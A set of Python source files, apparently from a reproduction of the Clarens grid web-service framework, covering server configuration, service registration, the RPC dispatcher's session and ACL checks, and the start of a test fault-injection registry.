    host_dn: str | None = None
    #: Directory for the server's databases.  ``None`` keeps everything in
    #: memory (no session persistence across restarts).
    data_dir: str | None = None
    #: DNs (or DN prefixes) of the server administrators; populates the
    #: ``admins`` VO group on every start.
    admins: list[str] = field(default_factory=list)
    #: Virtual server root for the file service (paper: "a virtual server root
    #: directory can be defined … which may be any directory on the server").
    file_root: str | None = None
    #: Root directory under which per-user shell sandboxes are created.
    shell_root: str | None = None
    #: Path of the shell service's DN -> system user map file.
    user_map_path: str | None = None
    #: URL prefix routed to Clarens (everything else is "handled transparently
    #: by the Apache server", i.e. the default handler).
    url_prefix: str = "/clarens"
    #: Seconds an idle session stays valid.
    session_lifetime: float = 24 * 3600.0
    #: Number of access-control checks performed per request (the paper's test
    #: notes two: session lookup and method ACL).  The ACL-overhead ablation
    #: benchmark sweeps this value.
    access_checks_per_request: int = 2
    #: Per-identity admission rate, requests/second per DN (anonymous callers
    #: share one bucket).  0 disables rate limiting; excess requests receive
    #: a RETRY_LATER fault (HTTP 429 on the plain endpoint).
    dispatch_rate_limit: float = 0.0
    #: Token-bucket capacity per identity (how many requests may burst above
    #: the steady rate).  0 derives the burst from the rate.
    dispatch_burst: float = 0.0
    #: Maximum concurrent in-flight requests per identity (0 = unlimited).
    dispatch_max_inflight: int = 0
    #: Maximum entries accepted in one system.multicall batch (0 = unlimited).
    #: A batch admits as a single request, so the cap bounds how much work
    #: one admission token can buy.
    dispatch_multicall_limit: int = 1000
    #: Lock shards for the dispatch statistics, so heavily threaded servers
    #: do not serialise the request hot path on one stats mutex.
    dispatch_stats_shards: int = 8
    #: Comma-separated, ordered list of the RPC codecs this server accepts
    #: and advertises to negotiating clients (``xml-rpc``, ``soap``,
    #: ``json-rpc``, ``binary``).  Requests in a protocol missing from the
    #: list are rejected with a clean parse fault; trimming the list to
    #: ``xml-rpc,soap,json-rpc`` yields a paper-mode server that refuses the
    #: binary fast path entirely.
    protocol_preference: str = "xml-rpc,soap,json-rpc,binary"
    #: Serve ``FilePayload`` bodies through ``os.sendfile`` (threaded
    #: frontend) / ``loop.sendfile`` (async frontend) so file GETs move
    #: kernel-to-kernel.  Off falls back to chunked userspace copies, which
    #: is also the automatic fallback where sendfile is unavailable.
    sendfile_enabled: bool = True
    #: Which socket frontend ``ClarensServer.frontend()`` builds: ``threaded``
    #: (one pooled thread per connection, the paper's Apache-like model) or
    #: ``async`` (one event loop for every connection, with pipelined parsing
    #: and a bounded executor for the blocking handler stack).
    server_transport: str = "threaded"
    #: Worker threads the async frontend offloads request handling to (the
    #: session/ACL/database stack is synchronous by design).  0 runs handlers
    #: inline on the event loop — only sensible for sub-millisecond methods.
    async_executor_workers: int = 8
    #: Maximum connections the async frontend holds open at once; a surplus
    #: connection is answered 429 and closed instead of queueing unboundedly
    #: (0 = unlimited).
    async_max_connections: int = 0
    #: Maximum requests admitted into the async frontend concurrently
    #: (parsed but not yet answered).  Overflow surfaces as 429/RETRY_LATER
    #: through the admission machinery rather than an unbounded executor
    #: queue (0 = unlimited).
    async_max_inflight: int = 0
    #: When True, the method-list DB lookup performed by system.list_methods is
    #: cached; the paper explicitly ran with "no caching … on the server".
    cache_method_list: bool = False
    #: Master switch for the :mod:`repro.cache` subsystem (session validation,
    #: ACL decisions, discovery lookups, PKI chain verification).  Off by
    #: default so the out-of-the-box server matches the paper's uncached
    #: measurement setup.
    cache_enabled: bool = False
    #: Session-validation cache: maximum number of entries.
    cache_session_maxsize: int = 4096
    #: Session-validation cache: entry TTL, seconds.
    cache_session_ttl: float = 300.0
    #: ACL decision cache, keyed by (dn, kind, name): maximum entries.
    cache_acl_maxsize: int = 8192
    #: ACL decision cache: entry TTL, seconds.
    cache_acl_ttl: float = 300.0
    #: Discovery query-result cache: maximum entries.
    cache_discovery_maxsize: int = 1024
    #: Discovery query-result cache: entry TTL, seconds; the short default
    #: bounds how long an expired descriptor can keep appearing in results.
    cache_discovery_ttl: float = 5.0
    #: PKI chain-verification cache (successful verifications only): maximum
    #: entries.
    cache_pki_maxsize: int = 512
    #: PKI chain-verification cache: entry TTL, seconds.
    cache_pki_ttl: float = 600.0
    #: Lock shards per cache.  1 keeps one mutex and exact cache-wide LRU
    #: order; higher values split the key space across independently locked
    #: buckets so many-core servers do not serialise on one lock.
    cache_shards: int = 8
    #: Seconds between periodic cache-statistics publications onto the
    #: monitoring message bus (0 disables the reporter loop).
    cache_stats_interval: float = 0.0
    #: Allow any authenticated DN to call methods with no configured ACL.
    default_allow_authenticated: bool = True
    #: Allow unauthenticated (anonymous) calls to a small whitelist of system
    #: methods (system.list_methods and friends), matching the public
    #: discovery behaviour of deployed Clarens servers.
    allow_anonymous_system_calls: bool = True
    #: Maximum bytes a single file.read call may return.
    max_read_bytes: int = 8 * 1024 * 1024
    #: Interval between discovery re-publications, seconds.
    discovery_publish_interval: float = 30.0
    #: Name of this server's local storage element in the replica layer (the
    #: broker prefers it when resolving logical file names).
    replica_local_se: str = "local"
    #: Worker threads draining the replica transfer queue.
    replica_transfer_workers: int = 2
    #: Attempts per transfer before it is declared failed.
    replica_max_attempts: int = 3
    #: Base delay for the transfer retry backoff (doubles per attempt).
    replica_retry_delay: float = 0.05
    #: Write-ahead-journal replica transfers on the server database and
    #: replay incomplete entries when the engine restarts, so a crash
    #: mid-copy resumes instead of stranding the file.
    replica_journal_enabled: bool = False
    #: Default target number of healthy copies per logical file for the
    #: auto-heal policy engine (0 disables healing unless a prefix policy is
    #: installed via ``replica.set_policy``).
    replica_policy_default_copies: int = 0
    #: Seconds between periodic policy sweeps over the whole catalogue
    #: (0 = heal only in reaction to quarantine/transfer events on the bus).
    replica_heal_interval: float = 0.0
    #: Base anti-flap backoff after a failed heal attempt; doubles per
    #: consecutive failure on the same logical file.
    replica_heal_backoff: float = 0.25
    #: Static fabric peers, one ``name=url|dn`` entry per peer (or a single
    #: semicolon-separated string — DNs legally contain commas, so ``;``
    #: separates entries; ``|dn`` is optional but required for the peer to
    #: pass the inbound fabric fence — it is the DN that peer's channel
    #: authenticates with, typically its host certificate subject, and DNs
    #: contain ``=`` so ``|`` separates it from the URL).  Each entry
    #: becomes a PeerRegistry row with a pooled PeerChannel dialing the URL
    #: (authenticated with this server's host credential when present),
    #: wired into gossip, catalogue sync and the replica storage-element map
    #: at startup; tests and examples attach peers programmatically via
    #: ``server.fabric.add_peer`` instead.
    fabric_peers: list[str] = field(default_factory=list)
    #: Seconds between gossip flushes to the peers (cache invalidations,
    #: admission shed adverts, any topic added to the GossipBus).  0 disables
    #: the background flusher; ``server.fabric.gossip.flush()`` still works.
    fabric_gossip_interval: float = 0.0
    #: Seconds between catalogue anti-entropy rounds against each peer
    #: (per-LFN version-vector exchange; quarantine states win).  0 disables
    #: the loop; ``fabric.sync_now`` / ``sync_once()`` still work on demand.
    fabric_catalogue_sync: float = 0.0
    #: Fraction of the admission burst an identity keeps after a *peer*
    #: advertises shedding it (0 = drained to empty, so the next request
    #: pays a full refill wait).  Applies only when dispatch rate limiting
    #: is configured locally.
    fabric_admission_share: float = 0.0
    #: Master switch for the :mod:`repro.telemetry` subsystem: trace-context
    #: propagation and span recording, the unified metrics registry with its
    #: ``GET /metrics`` exposition, and the slow-request log.  Off by default
    #: so the out-of-the-box server matches the paper's uninstrumented
    #: measurements (trace headers from peers are then ignored entirely).
    telemetry_enabled: bool = False
    #: Capacity of the per-server span ring buffer queried by ``system.trace``
    #: (oldest spans are discarded first).
    telemetry_trace_buffer: int = 2048
    #: Slow-request budget in milliseconds: any request slower than this emits
    #: one structured log line with per-stage latency attribution and its
    #: trace id (0 disables the slow log).
    telemetry_slow_ms: float = 0.0
    #: How many slow-request records the in-memory ring retains.
    telemetry_slow_log_size: int = 256
    #: Declarative alert rules, one per entry (or a single ``;``-separated
    #: string), of the form ``name: kind(metric{label=value}) > N for Ds
    #: [severity=warning|critical]`` where kind is ``gauge``, ``counter`` or
    #: ``counter_rate`` (per-second increase between evaluations).  Evaluated
    #: by the background alert loop; firing/resolving publishes deduplicated
    #: ``telemetry.alert.*`` bus events that gossip fabric-wide.
    telemetry_alert_rules: list[str] = field(default_factory=list)
    #: Seconds between alert-rule evaluations and gossiped node-health
    #: summaries (0 disables the background beat; ``system.health`` and
    #: explicit engine calls still evaluate on demand).
    telemetry_alert_interval: float = 0.0
    #: Seconds a built ``GET /metrics/federation`` response is cached, so a
    #: burst of scrapes costs the fabric one fan-out, not one per scrape
    #: (0 rebuilds on every request).
    telemetry_federation_ttl: float = 5.0
    #: Shared deadline, in seconds, for per-peer fan-outs (trace collection
    #: via ``system.trace_tree``, the federated metrics scrape): peers that
    #: have not answered by then degrade the result to partial.
    telemetry_peer_timeout: float = 5.0
    #: Extra free-form settings (service-specific tuning, experiment labels).
    extra: dict[str, Any] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if not self.server_name:
            raise ConfigError("server_name must be non-empty")
        if not self.url_prefix.startswith("/"):
            self.url_prefix = "/" + self.url_prefix
        self.url_prefix = self.url_prefix.rstrip("/") or "/clarens"
        if self.session_lifetime <= 0:
            raise ConfigError("session_lifetime must be positive")
        if self.access_checks_per_request < 0:
            raise ConfigError("access_checks_per_request cannot be negative")
        if self.max_read_bytes <= 0:
            raise ConfigError("max_read_bytes must be positive")
        for knob in ("cache_session_maxsize", "cache_session_ttl",
                     "cache_acl_maxsize", "cache_acl_ttl",
                     "cache_discovery_maxsize", "cache_discovery_ttl",
                     "cache_pki_maxsize", "cache_pki_ttl",
                     "cache_shards", "dispatch_stats_shards",
                     "replica_transfer_workers", "replica_max_attempts",
                     "telemetry_trace_buffer", "telemetry_slow_log_size"):
            if getattr(self, knob) <= 0:
                raise ConfigError(f"{knob} must be positive")
        for knob in ("dispatch_rate_limit", "dispatch_burst",
                     "dispatch_max_inflight", "dispatch_multicall_limit",
                     "async_executor_workers", "async_max_connections",
                     "async_max_inflight"):
            if getattr(self, knob) < 0:
                raise ConfigError(f"{knob} cannot be negative")
        if self.server_transport not in ("threaded", "async"):
            raise ConfigError(
                f"server_transport must be 'threaded' or 'async', "
                f"not {self.server_transport!r}")
        from repro.protocols.errors import ProtocolError
        from repro.protocols.negotiate import parse_protocol_list
        try:
            parsed = parse_protocol_list(str(self.protocol_preference))
        except ProtocolError as exc:
            raise ConfigError(f"protocol_preference: {exc}") from exc
        self.protocol_preference = ",".join(parsed)
        self.sendfile_enabled = bool(self.sendfile_enabled)
        if self.cache_stats_interval < 0:
            raise ConfigError("cache_stats_interval cannot be negative")
        if self.telemetry_slow_ms < 0:
            raise ConfigError("telemetry_slow_ms cannot be negative")
        for knob in ("telemetry_alert_interval", "telemetry_federation_ttl"):
            if getattr(self, knob) < 0:
                raise ConfigError(f"{knob} cannot be negative")
        if self.telemetry_peer_timeout <= 0:
            raise ConfigError("telemetry_peer_timeout must be positive")
        if isinstance(self.telemetry_alert_rules, str):
            self.telemetry_alert_rules = [
                r.strip() for r in self.telemetry_alert_rules.split(";")
                if r.strip()]
        self.telemetry_alert_rules = [str(r)
                                      for r in self.telemetry_alert_rules]
        if self.telemetry_alert_rules:
            # Fail at config time, not on the first beat of the background
            # alert loop; AlertRuleError is a ValueError with the rule text.
            from repro.telemetry.alerts import AlertRule, AlertRuleError
        for spec in self.telemetry_alert_rules:
            try:
                AlertRule.parse(spec)
            except AlertRuleError as exc:
                raise ConfigError(str(exc)) from exc
        if self.replica_retry_delay < 0:
            raise ConfigError("replica_retry_delay cannot be negative")
        if self.replica_policy_default_copies < 0:
            raise ConfigError("replica_policy_default_copies cannot be negative")
        if self.replica_heal_interval < 0:
            raise ConfigError("replica_heal_interval cannot be negative")
        if self.replica_heal_backoff < 0:
            raise ConfigError("replica_heal_backoff cannot be negative")
        if not self.replica_local_se:
            raise ConfigError("replica_local_se must be non-empty")
        for knob in ("fabric_gossip_interval", "fabric_catalogue_sync"):
            if getattr(self, knob) < 0:
                raise ConfigError(f"{knob} cannot be negative")
        if not (0.0 <= self.fabric_admission_share <= 1.0):
            raise ConfigError("fabric_admission_share must be within [0, 1]")
        if isinstance(self.fabric_peers, str):
            self.fabric_peers = [p.strip() for p in self.fabric_peers.split(";")
                                 if p.strip()]
        self.fabric_peers = [str(p) for p in self.fabric_peers]
        for spec in self.fabric_peers:
            # Fail at config time, not mid-server-assembly: on_start runs
            # inside ClarensServer.__init__, after worker threads exist.
            name, sep, rest = spec.partition("=")
            url = rest.partition("|")[0]
            if not sep or not name.strip() or not url.strip():
                raise ConfigError(
                    f"fabric_peers entry {spec!r} is not of the form "
                    f"name=url or name=url|dn")
        self.admins = [str(a) for a in self.admins]

    # -- constructors --------------------------------------------------------
    @classmethod
    def from_mapping(cls, mapping: Mapping[str, Any]) -> "ServerConfig":
        known = {f for f in cls.__dataclass_fields__}  # noqa: C416
        kwargs: dict[str, Any] = {}
        extra: dict[str, Any] = {}
        for key, value in mapping.items():
            if key in known and key != "extra":
                kwargs[key] = value
            else:
                extra[key] = value
        if "extra" in mapping and isinstance(mapping["extra"], dict):
            extra.update(mapping["extra"])
        kwargs["extra"] = extra
        try:
            return cls(**kwargs)
        except TypeError as exc:
            raise ConfigError(f"invalid configuration: {exc}") from exc

    @classmethod
    def from_ini(cls, path: str | Path) -> "ServerConfig":
        """Parse an INI file with ``[server]``, ``[admins]`` and ``[extra]`` sections."""

        parser = configparser.ConfigParser()
        read = parser.read(str(path))
        if not read:
            raise ConfigError(f"configuration file not found: {path}")
        mapping: dict[str, Any] = {}
        if parser.has_section("server"):
            for key, value in parser.items("server"):
                mapping[key] = _coerce(value)
        if parser.has_section("admins"):
            mapping["admins"] = [v for _, v in parser.items("admins")]
        if parser.has_section("extra"):
            mapping["extra"] = {k: _coerce(v) for k, v in parser.items("extra")}
        return cls.from_mapping(mapping)

    def to_ini(self, path: str | Path) -> Path:
        """Write the configuration out as an INI file (for the examples)."""

        parser = configparser.ConfigParser()
        parser["server"] = {}
        for key in ("server_name", "host_dn", "data_dir", "file_root", "shell_root",
                    "user_map_path", "url_prefix", "session_lifetime",
                    "access_checks_per_request", "dispatch_rate_limit",
                    "dispatch_burst", "dispatch_max_inflight",
                    "dispatch_multicall_limit",
                    "dispatch_stats_shards", "protocol_preference",
                    "sendfile_enabled", "server_transport",
                    "async_executor_workers", "async_max_connections",
                    "async_max_inflight", "cache_method_list",
                    "cache_enabled", "cache_session_maxsize", "cache_session_ttl",
                    "cache_acl_maxsize", "cache_acl_ttl",
                    "cache_discovery_maxsize", "cache_discovery_ttl",
                    "cache_pki_maxsize", "cache_pki_ttl",
                    "cache_shards", "cache_stats_interval",
                    "default_allow_authenticated", "allow_anonymous_system_calls",
                    "max_read_bytes", "discovery_publish_interval",
                    "replica_local_se", "replica_transfer_workers",
                    "replica_max_attempts", "replica_retry_delay",
                    "replica_journal_enabled", "replica_policy_default_copies",
                    "replica_heal_interval", "replica_heal_backoff",
                    "fabric_gossip_interval", "fabric_catalogue_sync",
                    "fabric_admission_share", "telemetry_enabled",
                    "telemetry_trace_buffer", "telemetry_slow_ms",
                    "telemetry_slow_log_size", "telemetry_alert_interval",
                    "telemetry_federation_ttl", "telemetry_peer_timeout"):
            value = getattr(self, key)
            if value is not None:
                parser["server"][key] = str(value)
        if self.fabric_peers:
            parser["server"]["fabric_peers"] = ";".join(self.fabric_peers)
        if self.telemetry_alert_rules:
            parser["server"]["telemetry_alert_rules"] = \
                ";".join(self.telemetry_alert_rules)
        parser["admins"] = {f"admin{i}": dn for i, dn in enumerate(self.admins)}
        if self.extra:
            parser["extra"] = {k: str(v) for k, v in self.extra.items()}
        path = Path(path)
        with path.open("w", encoding="utf-8") as fh:
            parser.write(fh)
        return path

    # -- helpers -------------------------------------------------------------
    def protocols(self) -> tuple[str, ...]:
        """``protocol_preference`` parsed into an ordered name tuple."""

        return tuple(part for part in self.protocol_preference.split(",") if part)

    def rpc_path(self) -> str:
        return f"{self.url_prefix}/rpc"

    def file_path(self) -> str:
        return f"{self.url_prefix}/file"

    def portal_path(self) -> str:
        return f"{self.url_prefix}/portal"

    def with_overrides(self, **overrides: Any) -> "ServerConfig":
        """A copy of this config with selected fields replaced."""

        data = {f: getattr(self, f) for f in self.__dataclass_fields__}
        data.update(overrides)
        return ServerConfig(**data)


def _coerce(value: str) -> Any:
    lowered = value.strip().lower()
    if lowered in ("true", "yes", "on"):
        return True
    if lowered in ("false", "no", "off"):
        return False
    if lowered in ("none", "null", ""):
        return None
    try:
        return int(value)
    except ValueError:
        pass
    try:
        return float(value)
    except ValueError:
        pass
    return value


def _admin_list(value: str | Sequence[str]) -> list[str]:  # pragma: no cover - helper
    if isinstance(value, str):
        return [v.strip() for v in value.split(",") if v.strip()]
    return [str(v) for v in value]
