"""Service base class and the ``@rpc_method`` decorator.

A Clarens service is a group of methods published under one module name
(``file``, ``vo``, ``acl``, ``shell``, ...).  Subclass :class:`ClarensService`,
decorate the methods to publish with :func:`rpc_method`, and the server
registers them as ``<service_name>.<method_name>``.

Methods may take a :class:`~repro.core.context.CallContext` as their first
argument by naming it ``ctx``; parameter-less utility methods can omit it.
"""

from __future__ import annotations

import inspect
from typing import Callable, Iterator

from repro.core.registry import MethodRegistry, RegisteredMethod

__all__ = ["ClarensService", "rpc_method"]

_RPC_ATTR = "__clarens_rpc__"


def rpc_method(name: str | None = None, *, signature: str = "", help: str = "",
               anonymous: bool = False) -> Callable:
    """Mark a service method for publication.

    Parameters
    ----------
    name:
        The published method name (defaults to the Python name).
    signature, help:
        Documentation surfaced through ``system.method_signature`` and
        ``system.method_help``; defaults are inferred from the function.
    anonymous:
        When True the method may be called without an authenticated session
        (used by the authentication bootstrap methods themselves).
    """

    def decorate(func: Callable) -> Callable:
        setattr(func, _RPC_ATTR, {
            "name": name or func.__name__,
            "signature": signature,
            "help": help,
            "anonymous": anonymous,
        })
        return func

    return decorate


class ClarensService:
    """Base class for Clarens services."""

    #: The module prefix under which methods are published.
    service_name: str = "service"

    def __init__(self, server) -> None:  # server: repro.core.server.ClarensServer
        self.server = server

    # -- registration ----------------------------------------------------------
    def iter_methods(self) -> Iterator[RegisteredMethod]:
        """Yield the RegisteredMethod descriptors for every decorated method."""

        for _, member in inspect.getmembers(self, predicate=callable):
            meta = getattr(member, _RPC_ATTR, None)
            if meta is None:
                continue
            yield RegisteredMethod(
                name=f"{self.service_name}.{meta['name']}",
                func=member,
                signature=meta["signature"],
                help=meta["help"] or (inspect.getdoc(member) or ""),
                anonymous=meta["anonymous"],
                service=self.service_name,
            )

    def register(self, registry: MethodRegistry) -> int:
        """Register every published method; returns how many were added."""

        count = 0
        for method in self.iter_methods():
            registry.register(method.name, method.func, signature=method.signature,
                              help=method.help, anonymous=method.anonymous,
                              service=method.service)
            count += 1
        return count

    # -- lifecycle hooks --------------------------------------------------------
    def on_start(self) -> None:
        """Called once when the owning server finishes assembly."""

    def on_stop(self) -> None:
        """Called when the owning server shuts down."""
