"""The Clarens core: server, dispatcher, sessions, authentication.

This package is the paper's primary contribution — the web-service framework
itself.  The main entry point is :class:`repro.core.server.ClarensServer`,
which assembles the substrates (database, PKI trust, HTTP frontends) and
registers the standard services (system, VO, ACL, file, discovery, shell,
proxy, jobs).  Requests flow::

    HTTP frontend (loopback or socket)
        -> Router (URL form selects RPC endpoint, file GET, or portal)
        -> Dispatcher (protocol negotiation, session check, ACL check)
        -> registered service method
        -> RPC response (or fault) encoded with the request's protocol
"""

from __future__ import annotations

from repro.core.config import ServerConfig
from repro.core.context import CallContext
from repro.core.dispatch import Dispatcher
from repro.core.errors import ClarensError
from repro.core.registry import MethodRegistry, RegisteredMethod
from repro.core.server import ClarensServer
from repro.core.service import ClarensService, rpc_method
from repro.core.session import Session, SessionManager

__all__ = [
    "ClarensServer",
    "ServerConfig",
    "Dispatcher",
    "CallContext",
    "ClarensError",
    "MethodRegistry",
    "RegisteredMethod",
    "ClarensService",
    "rpc_method",
    "Session",
    "SessionManager",
]
