"""The RPC dispatcher: a thin facade over the request pipeline.

Historically this module *was* the per-request hot path (what the paper's
Figure 4 measures): codec selection, the session check, the method-ACL check
and the invocation lived inline in one method.  That logic now lives in
:mod:`repro.core.pipeline` as composable stages; :class:`Dispatcher` keeps
its public API — ``handle_http``, ``dispatch``, ``stats_snapshot`` and the
``access_checks`` ablation behaviour — by delegating to the pipeline the
server assembled, so existing callers, tests and benchmarks are untouched
while new cross-cutting stages (tracing, admission control, batching) plug
into the chain instead of into this file.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from repro.core.pipeline import (SESSION_HEADER,  # noqa: F401 - re-export
                                 RequestPipeline, ShardedDispatchStats,
                                 _call_with_context,  # noqa: F401 - re-export
                                 build_pipeline)
from repro.httpd.message import HTTPRequest, HTTPResponse
from repro.protocols.types import RPCRequest, RPCResponse

if TYPE_CHECKING:  # pragma: no cover
    from repro.core.server import ClarensServer

__all__ = ["Dispatcher", "SESSION_HEADER"]


class Dispatcher:
    """Routes decoded RPC requests to registered methods via the pipeline."""

    def __init__(self, server: "ClarensServer",
                 pipeline: RequestPipeline | None = None) -> None:
        self.server = server
        self.pipeline = pipeline if pipeline is not None else build_pipeline(server)

    @property
    def stats(self) -> ShardedDispatchStats:
        return self.pipeline.stats

    # -- HTTP entry point -----------------------------------------------------
    def handle_http(self, request: HTTPRequest, _remainder: str = "") -> HTTPResponse:
        """Handle a POST to the RPC endpoint."""

        return self.pipeline.handle_http(request)

    # -- core dispatch --------------------------------------------------------
    def dispatch(self, rpc_request: RPCRequest, *, http_request: HTTPRequest | None = None,
                 protocol: str = "xml-rpc") -> RPCResponse:
        """Dispatch one decoded RPC request and return the RPC response."""

        return self.pipeline.run(rpc_request, http_request=http_request,
                                 protocol=protocol)

    # -- stats ----------------------------------------------------------------
    def stats_snapshot(self) -> dict:
        return self.pipeline.stats.snapshot()
