"""The RPC dispatcher: the per-request hot path.

This module is what the paper's Figure 4 measures.  For every POST to the
RPC endpoint the dispatcher

1. selects a protocol codec (Content-Type or body sniffing),
2. decodes the request into method name + parameters,
3. performs the session check (database lookup),
4. performs the method ACL check (database-backed ACL evaluation),
5. invokes the registered method with a :class:`~repro.core.context.CallContext`,
6. encodes the result (or fault) with the same codec.

Steps 3 and 4 are the "two access control checks involving access to several
databases" of the paper's performance section; the ``access_checks`` knob
lets the ABL-ACL ablation benchmark turn them off one at a time.
"""

from __future__ import annotations

import inspect
import threading
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.context import CallContext
from repro.core.errors import AccessDeniedError, AuthenticationError, to_fault
from repro.core.session import Session
from repro.httpd.message import HTTPRequest, HTTPResponse
from repro.protocols import detect_codec
from repro.protocols.errors import Fault, FaultCode, ProtocolError
from repro.protocols.types import RPCRequest, RPCResponse

if TYPE_CHECKING:  # pragma: no cover
    from repro.core.server import ClarensServer

__all__ = ["Dispatcher", "DispatchStats", "SESSION_HEADER"]

#: HTTP header carrying the session id (the original used cookie-like headers).
SESSION_HEADER = "X-Clarens-Session"


@dataclass
class DispatchStats:
    """Counters maintained by the dispatcher (exported to monitoring)."""

    requests: int = 0
    faults: int = 0
    anonymous_requests: int = 0
    total_seconds: float = 0.0
    per_method: dict[str, int] = field(default_factory=dict)

    def snapshot(self) -> dict:
        return {
            "requests": self.requests,
            "faults": self.faults,
            "anonymous_requests": self.anonymous_requests,
            "total_seconds": self.total_seconds,
            "mean_latency_ms": (self.total_seconds / self.requests * 1000.0) if self.requests else 0.0,
            "per_method": dict(self.per_method),
        }


class Dispatcher:
    """Routes decoded RPC requests to registered methods."""

    def __init__(self, server: "ClarensServer") -> None:
        self.server = server
        self.stats = DispatchStats()
        self._stats_lock = threading.Lock()

    # -- HTTP entry point ---------------------------------------------------------
    def handle_http(self, request: HTTPRequest, _remainder: str = "") -> HTTPResponse:
        """Handle a POST to the RPC endpoint."""

        try:
            codec = detect_codec(request.body, request.content_type)
        except ProtocolError as exc:
            # Without a codec we cannot produce a protocol-correct fault body;
            # fall back to the default (XML-RPC), as the original server did.
            from repro.protocols import default_codec

            codec = default_codec()
            fault = Fault(FaultCode.PARSE_ERROR, str(exc))
            body = codec.encode_response(RPCResponse.from_fault(fault))
            return HTTPResponse.ok(body, content_type=codec.content_type)

        try:
            rpc_request = codec.decode_request(request.body)
        except ProtocolError as exc:
            fault = Fault(FaultCode.PARSE_ERROR, str(exc))
            body = codec.encode_response(RPCResponse.from_fault(fault))
            return HTTPResponse.ok(body, content_type=codec.content_type)

        rpc_response = self.dispatch(rpc_request, http_request=request, protocol=codec.name)
        rpc_response.call_id = rpc_request.call_id
        body = codec.encode_response(rpc_response)
        return HTTPResponse.ok(body, content_type=codec.content_type)

    # -- core dispatch --------------------------------------------------------------
    def dispatch(self, rpc_request: RPCRequest, *, http_request: HTTPRequest | None = None,
                 protocol: str = "xml-rpc") -> RPCResponse:
        """Dispatch one decoded RPC request and return the RPC response."""

        start = time.perf_counter()
        fault: Fault | None = None
        try:
            result = self._invoke(rpc_request, http_request, protocol)
            response = RPCResponse.from_result(result, call_id=rpc_request.call_id)
        except BaseException as exc:  # noqa: BLE001 - faults must not kill the server
            fault = to_fault(exc)
            response = RPCResponse.from_fault(fault, call_id=rpc_request.call_id)
        duration = time.perf_counter() - start

        with self._stats_lock:
            self.stats.requests += 1
            self.stats.total_seconds += duration
            if fault is not None:
                self.stats.faults += 1
            self.stats.per_method[rpc_request.method] = (
                self.stats.per_method.get(rpc_request.method, 0) + 1
            )
        return response

    def _invoke(self, rpc_request: RPCRequest, http_request: HTTPRequest | None,
                protocol: str):
        server = self.server
        method = server.registry.lookup(rpc_request.method)

        session: Session | None = None
        dn: str | None = None
        checks = server.config.access_checks_per_request

        # Check 1: is the caller associated with a current session?
        if checks >= 1:
            session_id = None
            if http_request is not None:
                session_id = http_request.headers.get(SESSION_HEADER)
            if session_id:
                session = server.sessions.validate(session_id)
                dn = session.dn
            elif http_request is not None and http_request.client_dn:
                # TLS-authenticated connection without an explicit session: the
                # verified certificate DN identifies the caller directly.
                dn = http_request.client_dn
            elif method.anonymous and server.config.allow_anonymous_system_calls:
                dn = None
                with self._stats_lock:
                    self.stats.anonymous_requests += 1
            else:
                raise AuthenticationError(
                    f"method {rpc_request.method} requires an authenticated session"
                )
        else:
            # Ablation mode: no session checking; trust the TLS DN if present.
            dn = http_request.client_dn if http_request is not None else None

        # Check 2: does the caller have access to this particular method?
        if checks >= 2 and not (dn is None and method.anonymous):
            decision = server.acl.check_method(dn or "", rpc_request.method)
            if not decision.allowed:
                raise AccessDeniedError(
                    f"access to {rpc_request.method} denied: {decision.reason}"
                )

        ctx = CallContext(server=server, method=rpc_request.method, dn=dn,
                          session=session, request=http_request, protocol=protocol)
        return _call_with_context(method.func, ctx, rpc_request.params)

    # -- stats ------------------------------------------------------------------------
    def stats_snapshot(self) -> dict:
        with self._stats_lock:
            return self.stats.snapshot()


def _wants_context(func) -> bool:
    try:
        params = list(inspect.signature(func).parameters.values())
    except (TypeError, ValueError):
        return False
    return bool(params) and params[0].name in ("ctx", "context")


_CONTEXT_CACHE: dict[object, bool] = {}


def _call_with_context(func, ctx: CallContext, params):
    """Invoke ``func`` with the call context when its signature asks for one."""

    key = getattr(func, "__func__", func)
    wants = _CONTEXT_CACHE.get(key)
    if wants is None:
        wants = _wants_context(func)
        _CONTEXT_CACHE[key] = wants
    if wants:
        return func(ctx, *params)
    return func(*params)
