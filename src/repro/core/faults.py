"""Fault-point registry: named injection seams for tests and chaos runs.

Production code calls :func:`FaultRegistry.fire` at a handful of named
points (``"fabric.channel.call"``, ``"replica.storage.write"``, ...).
With no rules armed the call is a single attribute check and a return —
cheap enough to leave in hot paths.  Tests and the soak harness arm rules
with :func:`FaultRegistry.inject`: a rule matches a point name plus an
optional context subset, skips the first ``after`` matching fires, then
triggers ``times`` times (raising an exception, running a callback, or
both).

This replaces ad-hoc monkeypatching: the seam is part of the module's
contract, the rule says *where* and *when* declaratively, and the global
:data:`FAULTS` registry is cleared between tests by an autouse fixture.
"""

from __future__ import annotations

import threading
from typing import Any, Callable

__all__ = ["FaultRule", "FaultRegistry", "FAULTS"]


class FaultRule:
    """One armed fault: where it matches, when it triggers, what it does."""

    def __init__(self, registry: "FaultRegistry", point: str, *,
                 exc: BaseException | type[BaseException] | None = None,
                 call: Callable[[dict[str, Any]], None] | None = None,
                 times: int | None = 1, after: int = 0,
                 match: dict[str, Any] | None = None) -> None:
        self._registry = registry
        self.point = point
        self.exc = exc
        self.call = call
        self.times = times
        self.after = after
        self.match = dict(match) if match else {}
        #: matching fires seen so far (including the ``after`` skips)
        self.matched = 0
        #: fires that actually triggered the rule
        self.fired = 0

    def matches(self, point: str, ctx: dict[str, Any]) -> bool:
        if point != self.point:
            return False
        return all(ctx.get(key) == value for key, value in self.match.items())

    @property
    def exhausted(self) -> bool:
        return self.times is not None and self.fired >= self.times

    def cancel(self) -> None:
        """Disarm this rule; firing stops immediately."""

        self._registry._remove(self)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (f"FaultRule({self.point!r}, match={self.match!r}, "
                f"after={self.after}, times={self.times}, "
                f"fired={self.fired})")


class FaultRegistry:
    """Registry of armed :class:`FaultRule` instances.

    Thread-safe: rule selection and bookkeeping happen under a lock, the
    rule's side effects (callback, raise) run outside it so a callback may
    itself arm or cancel rules without deadlocking.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._rules: list[FaultRule] = []
        self._counts: dict[str, int] = {}

    # -- arming --------------------------------------------------------------
    def inject(self, point: str, *,
               exc: BaseException | type[BaseException] | None = None,
               call: Callable[[dict[str, Any]], None] | None = None,
               times: int | None = 1, after: int = 0,
               match: dict[str, Any] | None = None) -> FaultRule:
        """Arm a rule at ``point`` and return it.

        ``exc`` may be an exception instance (raised as-is every trigger)
